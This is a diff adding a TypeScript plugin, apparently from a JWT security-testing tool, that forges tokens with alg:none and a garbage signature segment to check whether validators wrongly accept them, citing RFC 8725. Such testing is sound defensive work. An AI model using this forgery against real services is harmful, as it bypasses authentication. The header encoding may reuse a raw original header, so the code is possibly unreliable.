@@ -0,0 +1,98 @@
+/**
+ * alg:none With Signature
+ *
+ * Sets `alg: none` but keeps a non-empty third segment of garbage, so the
+ * token reads `header(alg=none).payload.<garbage>`. Validators that reject
+ * alg:none only when the signature is missing, or that take a present
+ * signature as proof the token was signed, accept it; so do those that
+ * "verify" a signature with whatever alg the header names. A client must
+ * reject any alg:none token, with or without a signature segment.
+ *
+ * Config:
+ * - signature: the third segment to send, base64url (default: random bytes
+ *   as long as the real signature)
+ *
+ * The exact three segments are recorded in the evidence.
+ *
+ * Spec: RFC 8725 Section 3.1 - Algorithms MUST NOT include "none"
+ * CWE-347: Improper Verification of Cryptographic Signature
+ */
+
+import { randomBytes } from "../../core/random.js";
+import type { MischiefPlugin } from "../types.js";
+
+/** Garbage length when the token carries no signature to match */
+const DEFAULT_SIGNATURE_BYTES = 256;
+
+export const noneWithSignature: MischiefPlugin = {
+	id: "none-with-signature",
+	name: "alg:none With Signature",
+	severity: "critical",
+	phase: "token-signing",
+
+	spec: {
+		rfc: "RFC 8725 Section 3.1",
+		cwe: "CWE-347",
+		description: "alg:none tokens MUST be rejected whether or not a signature segment is present",
+	},
+
+	description: "Sets alg:none but keeps a non-empty garbage signature segment",
+
+	options: [
+		{
+			name: "signature",
+			type: "string",
+			description:
+				"The third segment sent, base64url (default: random bytes as long as the real signature)",
+		},
+	],
+
+	async apply(ctx) {
+		if (!ctx.token) {
+			return { applied: false, mutation: "No token context", evidence: {} };
+		}
+
+		const configured = ctx.config.signature;
+		if (
+			configured !== undefined &&
+			(typeof configured !== "string" || !/^[A-Za-z0-9_-]+$/.test(configured))
+		) {
+			return {
+				applied: false,
+				mutation: "signature must be a non-empty base64url string",
+				evidence: { signature: configured },
+			};
+		}
+
+		const originalAlg = ctx.token.header.alg;
+		const signature = configured ?? garbageLike(ctx.token.signature);
+		ctx.token.header.alg = "none";
+		ctx.token.signature = signature;
+
+		const segments = [
+			encode(ctx.token.rawHeader ?? JSON.stringify(ctx.token.header)),
+			encode(ctx.token.rawPayload ?? JSON.stringify(ctx.token.claims)),
+			signature,
+		];
+		return {
+			applied: true,
+			mutation: `Changed alg from '${originalAlg}' to 'none' keeping a garbage signature segment`,
+			evidence: { originalAlg, segments },
+		};
+	},
+};
+
+/**
+ * Random bytes as long as a signature, base64url-encoded
+ */
+function garbageLike(signature: string): string {
+	const length = Buffer.from(signature, "base64url").length;
+	return randomBytes(length || DEFAULT_SIGNATURE_BYTES).toString("base64url");
+}
+
+/**
+ * A segment encoded the way the forged token is built
+ */
+function encode(json: string): string {
+	return Buffer.from(json, "latin1").toString("base64url");
+}